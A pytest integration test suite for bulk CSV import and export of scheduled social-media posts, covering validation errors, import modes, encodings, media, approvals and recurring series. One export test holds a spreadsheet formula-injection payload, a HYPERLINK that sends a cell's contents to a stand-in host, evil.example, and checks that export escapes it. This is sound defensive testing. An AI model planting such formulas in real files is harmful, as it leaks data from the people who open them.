"""Bulk import and export of posts through the real API and database.

Rows are checked by the post service's own rules, so the errors asserted here are the ones a single
POST /posts would give, reported per row and pointed at the column to fix.
"""

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID
from zoneinfo import ZoneInfo

import httpx
import pytest
from PIL import Image

from shared.domain.errors import InvalidInput
from shared.services import post_csv, publishing
from shared.services import posts as posts_service
from shared.services.post_csv import EXPORT_COLUMNS, MAX_FILE_BYTES, MAX_ROWS
from tests.integration.test_posts import add_member, set_approval
from tests.integration.test_publishing import World, world  # noqa: F401 - the fixture

HEADER = ["scheduled_at", "timezone", "text", "accounts"]


def csv_bytes(rows: list[list[str]], header: list[str] = HEADER, *, bom: bool = False) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
    return ("\ufeff" if bom else "").encode() + buffer.getvalue().encode()


def at(days: float, hour: int = 9) -> datetime:
    """A time comfortably in the future, on the hour, in UTC."""
    return (datetime.now(UTC) + timedelta(days=days)).replace(hour=hour, minute=0, second=0, microsecond=0)


def spring_gap(zone: str = "Europe/Paris") -> datetime:
    """02:30 on the next day the clocks skip 02:00-03:00 in `zone` (a local time that never happens)."""
    day = date.today() + timedelta(days=1)
    while True:
        local = datetime(day.year, day.month, day.day, 2, 30, tzinfo=ZoneInfo(zone))
        if local.astimezone(UTC).astimezone(ZoneInfo(zone)).hour != 2:
            return local.replace(tzinfo=None)
        day += timedelta(days=1)


async def upload(world: World, data: bytes, **params: Any) -> httpx.Response:
    return await world.api.post(
        f"/api/v1/workspaces/{world.workspace}/posts/import",
        headers=world.headers,
        params={k: str(v).lower() if isinstance(v, bool) else v for k, v in params.items()},
        files={"file": ("posts.csv", data, "text/csv")},
    )


async def imported(world: World, data: bytes, **params: Any) -> dict[str, Any]:
    response = await upload(world, data, **params)
    assert response.status_code == 200, response.text
    return response.json()  # type: ignore[no-any-return]


async def export(world: World, **params: str) -> httpx.Response:
    return await world.api.get(
        f"/api/v1/workspaces/{world.workspace}/posts/export", headers=world.headers, params=params
    )


async def post_count(world: World) -> int:
    pool = await world.container.db()
    async with pool.connection() as conn:
        cursor = await conn.execute("SELECT count(*) FROM posts WHERE workspace_id = %s", (world.workspace,))
        row = await cursor.fetchone()
    assert row is not None
    return int(row[0])


async def feed_handle(world: World) -> str:
    response = await world.api.get(f"/api/v1/workspaces/{world.workspace}/accounts", headers=world.headers)
    [feed] = [a for a in response.json()["items"] if a["platform"] == "feed"]
    return f"feed:@{feed['handle']}"


async def upload_image(world: World) -> str:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 120, 200)).save(buffer, format="PNG")
    response = await world.api.post(
        f"/api/v1/workspaces/{world.workspace}/media",
        headers=world.headers,
        files={"file": ("pic.png", buffer.getvalue(), "image/png")},
    )
    assert response.status_code in (200, 201), response.text
    return str(response.json()["id"])


def errors_by_row(report: dict[str, Any]) -> dict[int, list[tuple[str, str | None]]]:
    return {r["row"]: [(e["code"], e["field"]) for e in r["errors"]] for r in report["rows"] if r["errors"]}


async def test_good_rows_create_posts_scheduled_at_the_right_instant(world: World) -> None:
    account = await world.connect()
    feed = await feed_handle(world)
    first, second = at(3), at(4)
    report = await imported(
        world,
        csv_bytes(
            [
                [first.isoformat(), "", "to two accounts", f"sandbox:@{account['handle'].upper()} | {feed}"],
                [second.replace(tzinfo=None).isoformat(), "America/New_York", "local time", account["id"]],
                ["", "", "an idea for later", account["id"]],
            ]
        ),
    )
    assert (report["created"], report["errors"], report["mode"], report["dry_run"]) == (
        3,
        0,
        "all_or_nothing",
        False,
    )
    assert [(r["row"], r["status"], r["post_status"]) for r in report["rows"]] == [
        (2, "created", "scheduled"),
        (3, "created", "scheduled"),
        (4, "created", "draft"),
    ]
    one, two, three = [await world.get_post(r["post_id"]) for r in report["rows"]]
    assert datetime.fromisoformat(one["scheduled_at"]) == first
    assert {t["platform"] for t in one["targets"]} == {"sandbox", "feed"}
    assert all(t["status"] == "scheduled" for t in one["targets"])
    # 09:00 in New York, whatever the offset is that day.
    expected = second.replace(tzinfo=None).replace(tzinfo=ZoneInfo("America/New_York"))
    assert datetime.fromisoformat(two["scheduled_at"]) == expected
    assert two["timezone"] == "America/New_York"
    assert [t["account_id"] for t in two["targets"]] == [account["id"]]
    assert (three["status"], three["scheduled_at"], three["text"]) == ("draft", None, "an idea for later")


def bad_file(account: dict[str, Any], good_time: datetime) -> bytes:
    gap = spring_gap()
    return csv_bytes(
        [
            [good_time.isoformat(), "", "fine", account["id"]],
            [good_time.isoformat(), "", "who?", "sandbox:@nobody_here"],
            [good_time.isoformat(), "", "x" * 5001, account["id"]],
            [good_time.replace(tzinfo=None).isoformat(), "Europe/Pariss", "typo zone", account["id"]],
            [gap.isoformat(), "Europe/Paris", "in the gap", account["id"]],
            [(datetime.now(UTC) - timedelta(hours=2)).isoformat(), "", "too late", account["id"]],
            [good_time.isoformat(), "", "also fine", f"sandbox:@{account['handle']}"],
        ]
    )


async def test_bad_rows_get_precise_errors_and_all_or_nothing_creates_nothing(world: World) -> None:
    account = await world.connect()
    before = await post_count(world)
    report = await imported(world, bad_file(account, at(2)))
    assert report["created"] == 0
    assert report["errors"] == 5
    assert errors_by_row(report) == {
        3: [("account_not_found", "accounts")],
        4: [("text_too_long", "text")],
        5: [("invalid_timezone", "timezone")],
        6: [("nonexistent_local_time", "scheduled_at")],
        7: [("scheduled_in_past", "scheduled_at")],
    }
    assert [r["status"] for r in report["rows"]] == ["valid"] + ["error"] * 5 + ["valid"]
    messages = {r["row"]: r["errors"][0]["message"] for r in report["rows"] if r["errors"]}
    assert "sandbox:@nobody_here" in messages[3]
    assert messages[4].startswith(f"sandbox:@{account['handle']}: ")
    assert "5000" in messages[4]
    assert "Europe/Paris" in messages[6]
    assert await post_count(world) == before


async def test_best_effort_creates_the_good_rows(world: World) -> None:
    account = await world.connect()
    before = await post_count(world)
    report = await imported(world, bad_file(account, at(2)), mode="best_effort")
    assert (report["created"], report["errors"]) == (2, 5)
    created = [r for r in report["rows"] if r["status"] == "created"]
    assert [r["row"] for r in created] == [2, 8]
    assert [(await world.get_post(r["post_id"]))["text"] for r in created] == ["fine", "also fine"]
    assert await post_count(world) == before + 2


async def test_dry_run_checks_everything_and_creates_nothing(world: World) -> None:
    account = await world.connect()
    before = await post_count(world)
    good = csv_bytes([[at(2).isoformat(), "", f"row {n}", account["id"]] for n in range(3)])
    report = await imported(world, good, dry_run=True)
    assert report["dry_run"] is True
    assert [r["status"] for r in report["rows"]] == ["valid"] * 3
    assert all(r["post_id"] is None for r in report["rows"])
    assert report["created"] == 0
    bad = await imported(world, bad_file(account, at(2)), dry_run=True, mode="best_effort")
    assert bad["errors"] == 5
    assert await post_count(world) == before


async def test_a_utf8_file_with_bom_is_accepted(world: World) -> None:
    account = await world.connect()
    report = await imported(
        world, csv_bytes([[at(2).isoformat(), "", "Café ☕ — ünïcode", account["id"]]], bom=True)
    )
    [row] = report["rows"]
    assert row["status"] == "created", row
    assert (await world.get_post(row["post_id"]))["text"] == "Café ☕ — ünïcode"


async def test_more_than_max_rows_is_refused_as_a_whole(world: World) -> None:
    account = await world.connect()
    before = await post_count(world)
    rows = [[at(2).isoformat(), "", f"n{n}", account["id"]] for n in range(MAX_ROWS + 1)]
    response = await upload(world, csv_bytes(rows), mode="best_effort")
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "too_many_rows"
    assert await post_count(world) == before


@pytest.mark.parametrize(
    ("kind", "status", "code"),
    [
        ("too_big", 413, "payload_too_large"),
        ("json", 415, "unsupported_media_type"),
        ("no_file", 422, "file_missing"),
        ("latin1", 422, "invalid_encoding"),
        ("no_accounts_column", 422, "missing_column"),
    ],
)
async def test_unreadable_uploads_are_refused(world: World, kind: str, status: int, code: str) -> None:
    url = f"/api/v1/workspaces/{world.workspace}/posts/import"
    if kind == "too_big":
        response = await upload(world, b"scheduled_at,text,accounts\n" + b"x" * MAX_FILE_BYTES)
    elif kind == "json":
        response = await world.api.post(url, headers=world.headers, json={"file": "scheduled_at"})
    elif kind == "no_file":
        response = await world.api.post(url, headers=world.headers, files={"other": ("a.csv", b"x")})
    elif kind == "latin1":
        response = await upload(world, "scheduled_at,text,accounts\n,café,x\n".encode("latin-1"))
    else:
        response = await upload(world, b"scheduled_at,text\n2030-01-01T10:00Z,hi\n")
    assert response.status_code == status, response.text
    assert response.json()["error"]["code"] == code


async def test_media_must_be_in_the_library_and_urls_are_refused(world: World) -> None:
    account = await world.connect()
    media_id = await upload_image(world)
    header = [*HEADER, "media_ids", "media_url"]
    when = at(2).isoformat()
    report = await imported(
        world,
        csv_bytes(
            [
                [when, "", "with media", account["id"], media_id, ""],
                [when, "", "unknown media", account["id"], str(UUID(int=7)), ""],
                [when, "", "by url", account["id"], "", "https://example.com/cat.png"],
            ],
            header,
        ),
        mode="best_effort",
    )
    assert [r["status"] for r in report["rows"]] == ["created", "error", "error"]
    assert errors_by_row(report) == {
        3: [("media_not_found", "media_ids")],
        4: [("media_url_not_supported", "media_url")],
    }
    assert (await world.get_post(report["rows"][0]["post_id"]))["media"] == [media_id]


async def test_contributor_rows_wait_for_approval(world: World) -> None:
    await set_approval(world, True)
    account = await world.connect()
    contributor = await add_member(world, "contributor")
    response = await world.api.post(
        f"/api/v1/workspaces/{world.workspace}/posts/import",
        headers=contributor,
        files={
            "file": ("p.csv", csv_bytes([[at(2).isoformat(), "", "check me", account["id"]]]), "text/csv")
        },
    )
    assert response.status_code == 200, response.text
    [row] = response.json()["rows"]
    assert (row["status"], row["post_status"]) == ("created", "pending_approval")


async def test_a_row_failing_while_saving_stops_all_or_nothing_and_says_what_was_created(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A real race: the second row's account is disconnected after validation, before its save."""
    steady, flaky = await world.connect(), await world.connect()
    real_create = posts_service.create_post
    calls = 0

    async def disconnect_then_create(*args: Any, **kwargs: Any) -> posts_service.PostView:
        nonlocal calls
        calls += 1
        if calls == 2:
            pool = await world.container.db()
            async with pool.connection() as conn:
                await conn.execute(
                    "UPDATE social_accounts SET status = 'needs_reauth' WHERE id = %s", (flaky["id"],)
                )
        return await real_create(*args, **kwargs)

    monkeypatch.setattr(posts_service, "create_post", disconnect_then_create)
    rows = [
        [at(2).isoformat(), "", "one", steady["id"]],
        [at(2).isoformat(), "", "two", flaky["id"]],
        [at(2).isoformat(), "", "three", steady["id"]],
    ]
    report = await imported(world, csv_bytes(rows))
    assert [r["status"] for r in report["rows"]] == ["created", "error", "error"]
    assert errors_by_row(report) == {3: [("account_needs_reauth", "accounts")], 4: [("not_created", None)]}
    assert "row 3" in report["rows"][2]["errors"][0]["message"]
    assert report["created"] == 1
    assert await post_count(world) == 1


async def test_export_then_import_round_trips(world: World) -> None:
    account = await world.connect()
    feed = await feed_handle(world)
    media_id = await upload_image(world)
    texts = ['Hello, "world"\nsecond line 🎉', "=1+1 is two", "- a list item", "@someone look", "plain"]
    header = [*HEADER, "media_ids"]
    source = await imported(
        world,
        csv_bytes(
            [
                [
                    at(3 + n).replace(tzinfo=None).isoformat(),
                    "Europe/Paris",
                    text,
                    f"{account['id']}|{feed}",
                    "",
                ]
                for n, text in enumerate(texts)
            ]
            + [
                [at(9).isoformat(), "", "with a picture", account["id"], media_id],
                [at(10).isoformat(), "", "still a draft", account["id"], ""],
            ],
            header,
        ),
    )
    assert source["created"] == len(texts) + 2
    draft_id = source["rows"][-1]["post_id"]
    # A draft with a time: only `status` says it is a draft, and import must keep it one.
    pool = await world.container.db()
    async with pool.connection() as conn:
        await conn.execute("UPDATE post_targets SET status = 'draft' WHERE post_id = %s", (draft_id,))
        await conn.execute("UPDATE posts SET status = 'draft' WHERE id = %s", (draft_id,))

    response = await export(world)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="posts-{datetime.now(UTC).date().isoformat()}.csv"'
    )
    exported = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert list(exported[0]) == [
        "id",
        "status",
        "scheduled_at",
        "timezone",
        "text",
        "accounts",
        "media_ids",
        "account_texts",
        "account_media_ids",
        "account_options",
        "series_id",
        "recurrence",
        "series_starts_at",
        "published_urls",
    ]
    assert [r["id"] for r in exported] == [r["post_id"] for r in source["rows"]]
    # Targets are listed as the API lists them: by platform, then handle.
    assert exported[0]["accounts"] == f"{feed}|sandbox:@{account['handle']}"
    assert exported[0]["scheduled_at"].endswith(("+01:00", "+02:00"))  # Paris wall time, with offset
    assert exported[-1]["status"] == "draft"

    again = await imported(world, response.content)
    assert again["created"] == len(source["rows"]), again
    for old_row, new_row in zip(source["rows"], again["rows"], strict=True):
        old, new = await world.get_post(old_row["post_id"]), await world.get_post(new_row["post_id"])
        assert new["id"] != old["id"]
        for key in ("text", "scheduled_at", "timezone", "media", "status"):
            assert new[key] == old[key], key
        assert sorted(t["account_id"] for t in new["targets"]) == sorted(
            t["account_id"] for t in old["targets"]
        )


async def test_export_escapes_cells_a_spreadsheet_would_run(world: World) -> None:
    account = await world.connect()
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    for text in (formula, "+SUM(1)", "-2+3", "@SUM(A1)", "safe = fine"):
        await world.post([account["id"]], text=text, scheduled_at=at(2).isoformat())
    body = (await export(world)).content.decode()
    assert "\n=" not in body
    assert ",=" not in body
    texts = [r["text"] for r in csv.DictReader(io.StringIO(body))]
    assert texts == [f"'{formula}", "'+SUM(1)", "'-2+3", "'@SUM(A1)", "safe = fine"]


async def test_export_filters_by_time_and_status(world: World) -> None:
    account = await world.connect()
    early, middle, late = at(2), at(5), at(8)
    for when in (early, middle, late):
        await world.post([account["id"]], text=f"at {when.isoformat()}", scheduled_at=when.isoformat())
    await world.post([account["id"]], text="idea", draft=True)

    window = await export(
        world, **{"from": (middle - timedelta(hours=1)).isoformat(), "to": late.isoformat()}
    )
    assert [r["text"] for r in csv.DictReader(io.StringIO(window.text))] == [f"at {middle.isoformat()}"]
    drafts = await export(world, status="draft")
    assert [r["text"] for r in csv.DictReader(io.StringIO(drafts.text))] == ["idea"]
    everything = await export(world)
    assert len(list(csv.DictReader(io.StringIO(everything.text)))) == 4
    for params, code in (
        ({"status": "nonsense"}, "invalid_status"),
        ({"from": "2030-01-01T00:00:00"}, "timezone_required"),
    ):
        refused = await export(world, **params)
        assert refused.status_code == 422
        assert refused.json()["error"]["code"] == code


async def test_published_posts_export_their_urls_and_are_not_imported_twice(world: World) -> None:
    account = await world.connect()
    post = await world.post([account["id"]], text="went out", publish_now=True)
    [target_id] = await world.messages()
    assert await publishing.publish_target(world.container, target_id) == "published"
    url = (await world.get_post(post["id"]))["targets"][0]["external_url"]
    response = await export(world, status="published")
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert (row["id"], row["status"], row["published_urls"]) == (post["id"], "published", url)
    report = await imported(world, response.content, mode="best_effort")
    assert report["created"] == 0
    assert ("status_not_importable", "status") in errors_by_row(report)[2]


async def test_export_is_not_taken_for_a_post_id(world: World) -> None:
    """The CSV router is registered before /posts/{post_id}, which would answer 422 here."""
    response = await export(world)
    assert response.status_code == 200
    assert response.text.splitlines() == [",".join(EXPORT_COLUMNS)]


async def accounts_by_platform(world: World, platform: str) -> list[dict[str, Any]]:
    response = await world.api.get(f"/api/v1/workspaces/{world.workspace}/accounts", headers=world.headers)
    return [a for a in response.json()["items"] if a["platform"] == platform]


async def create(world: World, body: dict[str, Any], headers: dict[str, str] | None = None) -> dict[str, Any]:
    response = await world.api.post(
        f"/api/v1/workspaces/{world.workspace}/posts", json=body, headers=headers or world.headers
    )
    assert response.status_code == 201, response.text
    return response.json()  # type: ignore[no-any-return]


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def local(days: float) -> str:
    """09:00 on that day, as a wall time for the post's own zone."""
    return at(days).replace(tzinfo=None).isoformat()


def without_ids(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    """Rows with the ids left out and each series named by its order of appearance, so two exports
    compare equal when they hold the same posts and the same rows share a series."""
    names: dict[str, str] = {}
    shaped = []
    for row in rows:
        shaped_row = {k: v for k, v in row.items() if k != "id"}
        if row["series_id"]:
            shaped_row["series_id"] = names.setdefault(row["series_id"], f"series {len(names) + 1}")
        shaped.append(shaped_row)
    return shaped


def content(post: dict[str, Any]) -> dict[str, Any]:
    """What a post is, apart from who made it and when: what import must bring back."""
    return {
        "text": post["text"],
        "scheduled_at": post["scheduled_at"],
        "timezone": post["timezone"],
        "media": post["media"],
        "recurrence": post["recurrence"],
        "repeats": post["series_id"] is not None,
        "targets": sorted(
            (t["account_id"], t["text"], t["media_ids"], json.dumps(t["options"], sort_keys=True))
            for t in post["targets"]
        ),
    }


ARABIC = "مرحبا بالعالم 👋🏽 — أول منشور لنا 🎉🇸🇦"


async def test_an_export_imports_back_to_the_same_posts_per_account_content_and_series(world: World) -> None:
    await set_approval(world, True)
    one, two = await world.connect(), await world.connect()
    [feed] = await accounts_by_platform(world, "feed")
    first_media, second_media = await upload_image(world), await upload_image(world)
    contributor = await add_member(world, "contributor")
    await create(
        world,
        {
            "text": "Launch day",
            "media_ids": [first_media],
            "targets": [
                {
                    "account_id": one["id"],
                    "text": "=1+1 is how one starts",  # a formula inside the JSON cell
                    "media_ids": [second_media],
                    "options": {"title": "Launch", "notify": True},
                },
                {"account_id": feed["id"], "media_ids": []},
                {"account_id": two["id"]},
            ],
            "scheduled_at": local(2),
            "timezone": "Europe/Paris",
        },
    )
    await create(
        world,
        {
            "text": ARABIC,
            "targets": [{"account_id": two["id"], "text": f"{ARABIC} (نسخة خاصة)"}],
            "scheduled_at": local(3),
            "timezone": "Asia/Riyadh",
        },
    )
    await create(
        world,
        {
            "text": "Daily tip",
            "targets": [{"account_id": one["id"], "text": "Tip, for one"}],
            "scheduled_at": local(4),
            "timezone": "America/New_York",
            "recurrence": "FREQ=DAILY;COUNT=3",
        },
    )
    await create(world, {"text": "An idea", "targets": [{"account_id": one["id"]}], "draft": True})
    pending = await create(
        world,
        {
            "text": "Please check",
            "targets": [{"account_id": two["id"]}],
            "scheduled_at": local(7),
            "timezone": "Europe/Paris",
        },
        contributor,
    )
    assert pending["status"] == "pending_approval"

    first = await export(world, bom="true")
    assert first.content.startswith(b"\xef\xbb\xbfid,status,")
    plain = await export(world)
    assert plain.content == first.content[3:]  # the same file, without the BOM
    assert ARABIC.encode() in first.content
    rows = rows_of(first)
    assert [(r["text"], r["status"]) for r in rows] == [
        ("Launch day", "scheduled"),
        (ARABIC, "scheduled"),
        ("Daily tip", "scheduled"),
        ("Daily tip", "scheduled"),
        ("Daily tip", "scheduled"),
        ("Please check", "pending_approval"),
        ("An idea", "draft"),
    ]
    label = {one["id"]: f"sandbox:@{one['handle']}", two["id"]: f"sandbox:@{two['handle']}"}
    label[feed["id"]] = f"feed:@{feed['handle']}"
    assert rows[0]["account_texts"] == json.dumps({label[one["id"]]: "=1+1 is how one starts"})
    assert json.loads(rows[0]["account_media_ids"]) == {
        label[feed["id"]]: [],
        label[one["id"]]: [second_media],
    }
    assert json.loads(rows[0]["account_options"]) == {label[one["id"]]: {"title": "Launch", "notify": True}}
    assert rows[1]["account_texts"] == json.dumps(
        {label[two["id"]]: f"{ARABIC} (نسخة خاصة)"}, ensure_ascii=False
    )
    series = rows[2:5]
    assert len({r["series_id"] for r in series}) == 1
    assert all(r["recurrence"] == "FREQ=DAILY;COUNT=3" for r in series)
    assert all(r["series_starts_at"] == series[0]["scheduled_at"] for r in series)
    assert not any(r["series_id"] or r["recurrence"] for r in rows[:2] + rows[5:])
    originals = [await world.get_post(r["id"]) for r in rows]

    for row in rows:
        deleted = await world.api.delete(
            f"/api/v1/workspaces/{world.workspace}/posts/{row['id']}", headers=world.headers
        )
        assert deleted.status_code == 204, deleted.text
    assert await post_count(world) == 0

    report = await imported(world, first.content)
    assert (report["created"], report["skipped"], report["errors"]) == (5, 2, 0), report
    assert [r["status"] for r in report["rows"]] == [
        "created",
        "created",
        "created",
        "skipped",
        "skipped",
        "created",
        "created",
    ]
    for skipped in report["rows"][3:5]:
        assert skipped["message"] == (
            f"An occurrence of series {series[0]['series_id']}, made from its rule by row 4's post."
        )
    assert await post_count(world) == 7  # the rule made the two skipped occurrences again

    second = await export(world, bom="true")
    again = rows_of(second)
    expected = without_ids(rows)
    # Approval applies afresh to whoever imports: the owner's import releases the contributor's post.
    expected[5]["status"] = "scheduled"
    assert without_ids(again) == expected
    assert not {r["id"] for r in rows} & {r["id"] for r in again}
    assert again[2]["series_id"] != series[0]["series_id"]
    imported_posts = [await world.get_post(r["id"]) for r in again]
    assert [content(p) for p in imported_posts] == [content(p) for p in originals]
    assert imported_posts[1]["text"].encode() == ARABIC.encode()
    assert imported_posts[2]["recurrence"] == "FREQ=DAILY;COUNT=3"
    assert len({p["series_id"] for p in imported_posts[2:5]}) == 1


async def test_bom_only_when_asked(world: World) -> None:
    assert (await export(world, bom="true")).content == (
        "\ufeff" + ",".join(EXPORT_COLUMNS) + "\r\n"
    ).encode()
    assert (await export(world, bom="false")).content == (",".join(EXPORT_COLUMNS) + "\r\n").encode()
    assert (await export(world)).content == (",".join(EXPORT_COLUMNS) + "\r\n").encode()


async def test_export_is_by_scheduled_time_with_drafts_last_across_pages(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(post_csv, "EXPORT_BATCH", 2)
    account = await world.connect()
    same = at(4)
    for text, when in (
        ("later", at(6)),
        ("idea one", None),
        ("soon", at(2)),
        ("tie a", same),
        ("idea two", None),
        ("tie b", same),
        ("middle", at(3)),
    ):
        if when is None:
            await world.post([account["id"]], text=text, draft=True)
        else:
            await world.post([account["id"]], text=text, scheduled_at=when.isoformat())
    texts = [r["text"] for r in rows_of(await export(world))]
    assert texts == ["soon", "middle", "tie a", "tie b", "later", "idea one", "idea two"]
    window = await export(world, **{"from": at(3).isoformat()})
    assert [r["text"] for r in rows_of(window)] == ["middle", "tie a", "tie b", "later"]


async def test_per_account_cells_are_checked_against_the_rows_accounts(world: World) -> None:
    one, two = await world.connect(), await world.connect()
    media_id = await upload_image(world)
    name = f"sandbox:@{one['handle']}"
    header = [*HEADER, "account_texts", "account_media_ids", "account_options"]
    when = at(2).isoformat()

    def row(texts: Any = "", media: Any = "", options: Any = "") -> list[str]:
        return [
            when,
            "",
            "for all",
            f"{name}|{two['id']}",
            *(json.dumps(c) if c else "" for c in (texts, media, options)),
        ]

    report = await imported(
        world,
        csv_bytes(
            [
                row({name.upper(): "=own text"}, {two["id"]: [media_id]}, {name: {"title": "T"}}),
                row({f"sandbox:@{two['handle']}x": "who?"}),
                row({name: "y" * 5001}),
                row(media={name: [str(UUID(int=9))]}),
                [when, "", "x", name, "{not json", "", ""],
            ],
            header,
        ),
        mode="best_effort",
    )
    assert errors_by_row(report) == {
        3: [("invalid_account_texts", "account_texts")],
        4: [("text_too_long", "account_texts")],
        5: [("media_not_found", "account_media_ids")],
        6: [("invalid_account_texts", "account_texts")],
    }
    post = await world.get_post(report["rows"][0]["post_id"])
    targets = {t["account_id"]: (t["text"], t["media_ids"], t["options"]) for t in post["targets"]}
    assert targets == {one["id"]: ("=own text", None, {"title": "T"}), two["id"]: (None, [media_id], {})}
    assert post["text"] == "for all"


SERIES_HEADER = [*HEADER, "series_id", "recurrence", "series_starts_at"]


async def series_posts(world: World, series_id: str) -> list[dict[str, Any]]:
    response = await world.api.get(
        f"/api/v1/workspaces/{world.workspace}/posts",
        headers=world.headers,
        params={"series_id": series_id, "sort": "scheduled"},
    )
    assert response.status_code == 200, response.text
    return response.json()["items"]  # type: ignore[no-any-return]


async def test_a_row_with_a_rule_and_no_series_id_is_a_recurring_post(world: World) -> None:
    account = await world.connect()
    report = await imported(
        world,
        csv_bytes(
            [[at(2).isoformat(), "", "twice", account["id"], "", "FREQ=DAILY;COUNT=2", ""]], SERIES_HEADER
        ),
    )
    [row] = report["rows"]
    post = await world.get_post(row["post_id"])
    assert (post["recurrence"], post["status"]) == ("FREQ=DAILY;COUNT=2", "scheduled")
    occurrences = await series_posts(world, post["series_id"])
    assert [datetime.fromisoformat(p["scheduled_at"]) for p in occurrences] == [at(2), at(3)]


async def test_series_rows_are_made_by_their_earliest_row_and_say_what_is_not_imported(world: World) -> None:
    account = await world.connect()
    rule = "FREQ=DAILY;COUNT=5"
    started = at(1).isoformat()  # two occurrences came before this file's first row: three are left

    def row(days: int, text: str = "Tip", series: str = "tips", recurrence: str = rule) -> list[str]:
        return [at(days).isoformat(), "", text, account["id"], series, recurrence, started]

    data = csv_bytes(
        [
            row(4),
            row(3, recurrence=""),  # the earliest row makes the series, wherever it is in the file
            row(5, "Tip, edited"),
            row(7),  # past the COUNT: the rule does not make it
            row(3, "other", "mixed", "FREQ=DAILY"),
            row(4, "other", "mixed", "FREQ=WEEKLY"),
        ],
        SERIES_HEADER,
    )
    checked = await imported(world, data, dry_run=True, mode="best_effort")
    assert [r["status"] for r in checked["rows"]] == [
        "skipped",
        "valid",
        "skipped",
        "skipped",
        "error",
        "error",
    ]
    report = await imported(world, data, mode="best_effort")
    assert [r["status"] for r in report["rows"]] == [
        "skipped",
        "created",
        "skipped",
        "skipped",
        "error",
        "error",
    ]
    assert errors_by_row(report) == {
        6: [("series_mismatch", "recurrence")],
        7: [("series_mismatch", "recurrence")],
    }
    messages = {r["row"]: r["message"] for r in report["rows"] if r["message"]}
    assert messages[2] == "An occurrence of series tips, made from its rule by row 3's post."
    assert messages[4] == (
        f"{messages[2]} Its own text (not row 3's) is not imported: change that occurrence once it is made."
    )
    assert messages[5] == (
        f"{messages[2]} The rule makes no occurrence at its time: add it as a post of its own if it is "
        "still wanted."
    )
    post = await world.get_post(report["rows"][1]["post_id"])
    assert post["recurrence"] == "FREQ=DAILY;COUNT=3"
    occurrences = await series_posts(world, post["series_id"])
    assert [datetime.fromisoformat(p["scheduled_at"]) for p in occurrences] == [at(d) for d in (3, 4, 5)]
    assert {p["text"] for p in occurrences} == {"Tip"}


async def test_occurrences_of_a_series_that_failed_to_save_are_errors(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    account = await world.connect()
    real_create = posts_service.create_post

    async def refuse_recurring(*args: Any, **kwargs: Any) -> posts_service.PostView:
        if args[2].recurrence is not None:
            raise InvalidInput("The account went away.", code="account_not_found")
        return await real_create(*args, **kwargs)

    monkeypatch.setattr(posts_service, "create_post", refuse_recurring)
    rows = [[at(d).isoformat(), "", "Tip", account["id"], "s", "FREQ=DAILY", ""] for d in (2, 3)]
    report = await imported(world, csv_bytes(rows, SERIES_HEADER), mode="best_effort")
    assert errors_by_row(report) == {
        2: [("account_not_found", "accounts")],
        3: [("series_not_created", None)],
    }
    assert report["skipped"] == 0
